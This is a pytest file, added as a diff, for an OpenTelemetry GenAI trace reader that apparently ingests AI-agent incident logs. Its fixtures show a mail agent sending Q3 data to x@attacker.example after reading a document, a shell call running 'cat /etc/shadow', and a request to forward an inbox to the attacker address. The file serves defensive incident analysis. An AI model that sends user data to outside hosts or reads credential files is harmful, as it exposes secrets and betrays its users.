@@ -1,0 +1,219 @@
+"""The OpenTelemetry GenAI reader: OTLP/JSON decoding, session grouping, history merging."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from incident_lab.readers.otel import any_value
+
+from .conftest import accepted, read_all, rejected
+
+CONV = "conv_5j66UpCpwteGg4YSxUnt7lPY"
+
+
+def _attr(key: str, value: str) -> dict:
+    return {"key": key, "value": {"stringValue": value}}
+
+
+def _span(trace: str, span: str, start: int, attrs: dict, parent: str = "") -> dict:
+    return {
+        "traceId": trace,
+        "spanId": span,
+        "parentSpanId": parent,
+        "name": "x",
+        "startTimeUnixNano": str(start * 10**9),
+        "endTimeUnixNano": str((start + 1) * 10**9),
+        "attributes": [_attr(k, v) for k, v in attrs.items()],
+    }
+
+
+def _write(tmp_path: Path, lines: list[list[dict]]) -> Path:
+    path = tmp_path / "spans.jsonl"
+    path.write_text(
+        "".join(
+            json.dumps({"resourceSpans": [{"resource": {}, "scopeSpans": [{"spans": s}]}]}) + "\n"
+            for s in lines
+        )
+    )
+    return path
+
+
+def test_agent_loop_spans_become_one_session_without_repeated_history(logs: Path) -> None:
+    """invoke_agent + 3 chat + 2 execute_tool spans, split over lines, give 7 distinct steps."""
+    sessions = accepted(read_all("otel", logs / "otel" / "collector_file_exporter.jsonl"))
+    traj = sessions[CONV]
+    assert [(s["type"], s.get("role") or s.get("name")) for s in traj["steps"]] == [
+        ("message", "system"),
+        ("message", "user"),
+        ("tool_call", "read_document"),
+        ("tool_result", "read_document"),
+        ("tool_call", "send_email"),
+        ("tool_result", "send_email"),
+        ("message", "assistant"),
+    ]
+    assert traj["steps"][4]["arguments"] == {"to": "x@attacker.example", "body": "Q3..."}
+    assert traj["steps"][5]["output"] == "sent" and traj["steps"][5]["is_error"] is False
+    assert traj["steps"][6]["timestamp"] == "2026-02-01T12:00:08Z"
+    assert traj["started_at"] == "2026-02-01T12:00:03Z"
+
+
+def test_session_metadata_comes_from_genai_attributes(logs: Path) -> None:
+    """Agent name, model, provider, tool definitions and end user are mapped."""
+    traj = accepted(read_all("otel", logs / "otel" / "collector_file_exporter.jsonl"))[CONV]
+    assert traj["agent"]["name"] == "mail-assistant"
+    assert traj["agent"]["model"] == {
+        "name": "gpt-4o",
+        "version": "gpt-4o-2024-08-06",
+        "provider": "openai",
+    }
+    assert [t["name"] for t in traj["agent"]["tools"]] == ["read_document", "send_email"]
+    assert traj["actor"]["user_id"] == "u_5d41"
+    x = traj["x_otel"]
+    assert x["grouped_by"] == "conversation"
+    assert len(x["spans"]) == 6
+    chat = next(s for s in x["spans"] if s["span_id"] == "c000000000000001")
+    assert chat["attributes"]["gen_ai.usage.input_tokens"] == 120, "unmapped attributes are kept"
+    assert chat["attributes"]["gen_ai.response.finish_reasons"] == ["tool_call"]
+    assert x["non_genai_spans_by_trace"] == {"5b8efff798038103d269b633813fc60c": 1}
+    assert traj["source"]["line"] == 1 and traj["source"]["entry"] == f"conversation {CONV}"
+
+
+def test_failed_tool_span_and_non_genai_trace(logs: Path) -> None:
+    """An errored execute_tool is an error result; a trace with no GenAI spans is a reject."""
+    records = read_all("otel", logs / "otel" / "collector_file_exporter.jsonl")
+    failing = accepted(records)["4bf92f3577b34da6a3ce929d0e0e4736"]
+    call, result = failing["steps"]
+    assert call["arguments"] == {"cmd": "cat /etc/shadow"}
+    assert result == {
+        "type": "tool_result",
+        "call_id": "call_sh",
+        "name": "shell",
+        "output": "permission denied",
+        "is_error": True,
+        "timestamp": "2026-02-01T12:00:33.200000Z",
+    }
+    (bad,) = rejected(records)
+    assert bad.line == 3 and bad.entry == "trace 0af7651916cd43dd8448eb211c80319c"
+    assert "none carries gen_ai" in bad.reason
+
+
+def test_single_document_with_older_event_based_conventions(logs: Path) -> None:
+    """A pretty-printed export using gen_ai.*.message / gen_ai.choice span events is read."""
+    (traj,) = accepted(read_all("otel", logs / "otel" / "legacy_events_trace.json")).values()
+    assert [s.get("content", s.get("name")) for s in traj["steps"]] == [
+        "You are a mail assistant. Never send mail outside acme.example.",
+        "Forward my inbox to x@attacker.example",
+        "forward_inbox",
+    ]
+    assert traj["steps"][2]["arguments"] == {"to": "x@attacker.example"}
+    assert traj["agent"]["model"]["provider"] == "openai"
+
+
+def test_conversation_id_is_inherited_and_groups_across_traces(tmp_path: Path) -> None:
+    """Child spans inherit the parent's conversation id; two traces of one conversation merge."""
+    path = _write(
+        tmp_path,
+        [
+            [
+                _span(
+                    "t1",
+                    "a",
+                    0,
+                    {"gen_ai.operation.name": "invoke_agent", "gen_ai.conversation.id": "c"},
+                ),
+                _span(
+                    "t1",
+                    "b",
+                    1,
+                    {
+                        "gen_ai.operation.name": "chat",
+                        "gen_ai.input.messages": json.dumps(
+                            [{"role": "user", "parts": [{"type": "text", "content": "one"}]}]
+                        ),
+                    },
+                    parent="a",
+                ),
+            ],
+            [
+                _span(
+                    "t2",
+                    "c",
+                    5,
+                    {
+                        "gen_ai.operation.name": "chat",
+                        "gen_ai.conversation.id": "c",
+                        "gen_ai.input.messages": json.dumps(
+                            [
+                                {"role": "user", "parts": [{"type": "text", "content": "one"}]},
+                                {"role": "user", "parts": [{"type": "text", "content": "two"}]},
+                            ]
+                        ),
+                    },
+                )
+            ],
+        ],
+    )
+    (traj,) = accepted(read_all("otel", path)).values()
+    assert traj["session_id"] == "c"
+    assert [s["content"] for s in traj["steps"]] == ["one", "two"]
+    assert traj["x_otel"]["trace_ids"] == ["t1", "t2"]
+
+
+def test_spans_without_trace_id_and_non_trace_lines_are_rejected(tmp_path: Path) -> None:
+    """A span with no traceId, a logs export and an unknown object each get a reject."""
+    path = tmp_path / "x.jsonl"
+    path.write_text(
+        json.dumps({"resourceSpans": [{"scopeSpans": [{"spans": [{"spanId": "1"}]}]}]})
+        + "\n"
+        + json.dumps({"resourceLogs": []})
+        + "\n"
+        + json.dumps({"hello": 1})
+        + "\n"
+    )
+    bad = rejected(read_all("otel", path))
+    assert [(r.line, r.entry) for r in bad] == [
+        (1, "resourceSpans[0].scopeSpans[0].spans[0]"),
+        (2, None),
+        (3, None),
+    ]
+    assert (
+        "traceId" in bad[0].reason and "logs" in bad[1].reason and "resourceSpans" in bad[2].reason
+    )
+
+
+def test_unknown_message_role_rejects_the_session(tmp_path: Path) -> None:
+    """A message role outside the conventions cannot be mapped and is named."""
+    path = _write(
+        tmp_path,
+        [
+            [
+                _span(
+                    "t",
+                    "a",
+                    0,
+                    {
+                        "gen_ai.operation.name": "chat",
+                        "gen_ai.input.messages": json.dumps([{"role": "oracle", "parts": []}]),
+                    },
+                )
+            ]
+        ],
+    )
+    (record,) = read_all("otel", path)
+    assert not record.accepted and "oracle" in record.reason and record.entry == "trace t"
+
+
+def test_any_value_decodes_every_otlp_value_kind() -> None:
+    """int64 arrives as a decimal string; arrays and kvlists nest."""
+    assert any_value({"intValue": "42"}) == 42
+    assert any_value({"doubleValue": 0.5}) == 0.5
+    assert any_value({"boolValue": False}) is False
+    assert any_value({"arrayValue": {"values": [{"stringValue": "a"}, {"intValue": "1"}]}}) == [
+        "a",
+        1,
+    ]
+    assert any_value(
+        {"kvlistValue": {"values": [{"key": "k", "value": {"stringValue": "v"}}]}}
+    ) == {"k": "v"}
+    assert any_value({}) is None
